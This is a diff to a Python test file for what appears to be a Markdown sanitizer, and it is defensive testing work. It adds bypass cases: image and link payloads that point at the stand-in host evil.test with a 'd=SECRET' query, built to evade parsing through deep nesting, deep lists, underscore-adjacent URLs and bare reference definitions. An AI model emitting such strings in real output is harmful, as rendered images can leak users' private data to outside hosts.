@@ -29,7 +29,18 @@ BYPASSES = {
     "protocol relative": "[x](//evil.test/a)",
     "subdomain lookalike": "[x](https://handbook.example.com.evil.test/a)",
     "uppercase scheme": "[x](HTTPS://EVIL.TEST/a)",
+    "nested past the parser's depth": ">" * 21 + " ![x](https://evil.test/p.png?d=SECRET)",
+    "deep list after a paragraph": "intro\n" + "- " * 11 + "![x](https://evil.test/p.png)",
+    "url after an underscore": "a_https://evil.test/x?d=SECRET",
+    "www after an underscore": "_www.evil.test/x?d=SECRET",
+    "a lone reference definition": "[r]: https://evil.test/p.png?d=SECRET",
 }
+
+
+@pytest.mark.unit
+def test_a_url_python_cannot_parse_is_removed_not_a_crash() -> None:
+    out = sanitize("Log in at https://[your-team].evil.test/login", ALLOWED)
+    assert "evil" not in out and is_inert(out, ALLOWED)
 
 
 @pytest.mark.unit
